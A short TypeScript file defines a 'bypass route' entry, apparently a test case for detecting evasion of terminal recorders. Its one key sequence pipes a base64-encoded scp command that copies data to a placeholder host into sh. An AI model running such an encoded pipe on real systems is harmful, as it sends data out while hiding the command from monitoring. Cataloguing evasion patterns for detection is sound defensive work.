import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'decoded into a shell',
  source: 'terminal recorders: base64 into sh',
  keys: ['echo B64(scp DATA host:) | base64 -d | sh\r'],
};
